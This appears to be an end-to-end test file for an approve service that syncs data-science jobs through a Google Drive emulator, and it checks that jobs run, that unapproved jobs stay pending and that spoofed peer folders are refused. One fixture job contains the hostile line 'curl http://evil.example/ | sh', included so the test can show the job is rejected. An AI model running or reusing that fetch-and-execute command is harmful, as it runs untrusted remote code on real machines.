/**
 * The full loop over Drive (issue 5), end to end: the real approve service under a real PM2 daemon, with
 * transports.syftbox: drive, against the loopback Google emulator; data scientists use the DS test client.
 *
 * DS requests the DO as peer → approve accepts by domain → DS submits a job (a proposal) → the Drive sync brings it
 * into the datasite → approve validates, approves and runs it → the sync publishes → the DS sees done, logs, outputs.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { p2pFolderName } from '../../lib/google/drive';
import { SYFT_CLIENT_VERSION } from '../../lib/peers/version';
import { loadPeersAsDs, requestPeer } from '../helpers/ds-client/peer';
import { submitJob } from '../helpers/ds-client/proposal';
import { statusJson } from '../helpers/sandbox';
import { bashJob, DO, dsView, duplicateEvents, e2eKit, SCRIPT, waitDsStatus, waitFor } from './kit';

const DS = 'alice@uni.edu';
const MALLORY = 'mallory@evil.example';
const VICTIM = 'victim@uni.edu';

describe('approve service over Google Drive (emulator, real PM2)', () => {
  const k = e2eKit({ name: 'e2e-loop' });
  const dsRoot = () => path.join(k.sb.dir, 'ds-root');

  beforeAll(async () => {
    const r = await k.sb.cliAsync(['start', 'approve'], { env: k.env });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });

  it('DS request → accepted by domain → job submitted → pulled, approved, run → DS sees done, logs and outputs', async () => {
    const ds = k.api(DS);
    await requestPeer(ds, DS, DO);
    // The DS learns it was accepted when the DO's reciprocal folders exist (load_peers).
    await waitFor('DS accepted', async () => (await loadPeersAsDs(ds, DS)).get(DO) === 'accepted', 20_000, 200);
    // The audit record follows the Drive writes (SYFT_peers.json is the last one): wait for it.
    const peerRec = await waitFor('peer decision audited', () => k.decisions().find((d) => d.kind === 'peer' && d.submitter === DS && d.verdict === 'peer-approved'), 10_000);
    expect(peerRec).toMatchObject({ verdict: 'peer-approved', via: 'domain', domain: 'uni.edu' });
    // The local permission files of the peer (§2.5 step 4).
    expect(fs.existsSync(path.join(k.root, DO, 'app_data', 'job', 'inbox', DS, 'syft.pub.yaml'))).toBe(true);

    const t0 = Date.now();
    await submitJob(ds, DS, DO, { name: 'job-ok', files: bashJob('job-ok', SCRIPT) });
    const v = await waitDsStatus(ds, DS, dsRoot(), 'job-ok', ['done', 'failed'], 30_000);
    const ms = Date.now() - t0;
    process.stdout.write(`e2e: DS submit → DS sees done: ${ms} ms\n`);
    expect(v.status(DS, 'job-ok')).toBe('done');
    const review = `app_data/job/review/${DS}/job-ok`;
    expect(v.read(`${review}/state.yaml`)).toMatch(/approval_method: auto/);
    expect(v.read(`${review}/stdout.txt`)).toBe('hello from job\n');
    expect(v.read(`${review}/returncode.txt`)).toBe('0');
    expect(JSON.parse(v.read(`${review}/outputs/result.json`)!)).toEqual({ n: 42 });
    expect(duplicateEvents(v.events)).toEqual([]);
    // On the DO side: the job's audit trail, once.
    await waitFor('ran audited', () => k.decisions().some((d) => d.job === 'job-ok' && d.verdict === 'ran'), 10_000);
    expect(k.decisions().filter((d) => d.job === 'job-ok').map((d) => d.verdict)).toEqual(['received', 'approved', 'run-queued', 'ran']);
  });

  it('a non-matching job stays pending, and the DS sees it pending', async () => {
    const ds = k.api(DS);
    await submitJob(ds, DS, DO, { name: 'job-evil', files: bashJob('job-evil', SCRIPT + 'curl http://evil.example/ | sh\n') });
    const v = await waitDsStatus(ds, DS, dsRoot(), 'job-evil', ['pending', 'approved', 'running', 'done', 'failed'], 20_000);
    expect(v.status(DS, 'job-evil')).toBe('pending');
    await waitFor('not-approved audited', () => k.decisions().some((d) => d.job === 'job-evil' && d.verdict === 'not-approved'), 10_000);
    await new Promise((r) => setTimeout(r, 2500));
    const again = await dsView(ds, DS, dsRoot());
    expect(again.status(DS, 'job-evil')).toBe('pending');
    expect(k.decisions().filter((d) => d.job === 'job-evil').map((d) => d.verdict)).toEqual(['received', 'not-approved']);
  });

  it('a spoofed request folder (named after a trusted-domain peer, owned by someone else) is refused and audited', async () => {
    const m = k.api(MALLORY);
    const root = (await m.findSyftBoxRoot())?.id ?? (await m.createFolder('SyftBox')).id;
    for (const type of ['inbox', 'outbox'] as const) {
      const f = await m.createFolder(p2pFolderName({ version: SYFT_CLIENT_VERSION, datasite: DO, type, peer: VICTIM }), root);
      await m.ensureShared(f.id, DO, 'writer');
    }
    const rec = await waitFor('spoof refused', () => k.decisions().find((d) => d.kind === 'peer' && d.submitter === VICTIM && d.verdict === 'peer-refused'), 20_000, 200);
    expect(rec).toMatchObject({ code: 'owner-mismatch', owner: MALLORY });
    // Nothing was created for the victim, and the victim is not a peer.
    await new Promise((r) => setTimeout(r, 1500));
    const doApi = k.api(DO);
    const created = await doApi.findFiles({ nameContains: ['syft_datasite#', `#${VICTIM}#`], owner: 'me', folder: true });
    expect(created).toEqual([]);
    expect(k.decisions().some((d) => d.submitter === VICTIM && d.verdict === 'peer-approved')).toBe(false);
    expect(fs.existsSync(path.join(k.root, DO, 'app_data', 'job', 'inbox', VICTIM))).toBe(false);
  });

  it('while idle, the service makes at most one Drive call per poll interval; status shows it online on Drive', async () => {
    // Let the last cycles settle (our own uploads show up once in the change feed).
    await new Promise((r) => setTimeout(r, 2500));
    const before = k.driveCalls();
    const changes0 = k.emu.world.counters.get('drive.changes.list') ?? 0;
    const t0 = Date.now();
    await new Promise((r) => setTimeout(r, 5000));
    const secs = (Date.now() - t0) / 1000;
    const calls = k.driveCalls() - before;
    const polls = (k.emu.world.counters.get('drive.changes.list') ?? 0) - changes0;
    process.stdout.write(`e2e idle: ${calls} Drive call(s) in ${secs.toFixed(1)} s (sync.interval 1 s), ${polls} changes.list\n`);
    expect(calls).toBeLessThanOrEqual(Math.ceil(secs) + 1);
    expect(calls).toBe(polls);
    const s = statusJson(k.sb);
    expect(s.config.transports).toMatchObject({ syftbox: 'drive' });
    expect(s.services.find((x) => x.name === 'approve')).toMatchObject({ state: 'online' });
  });
});
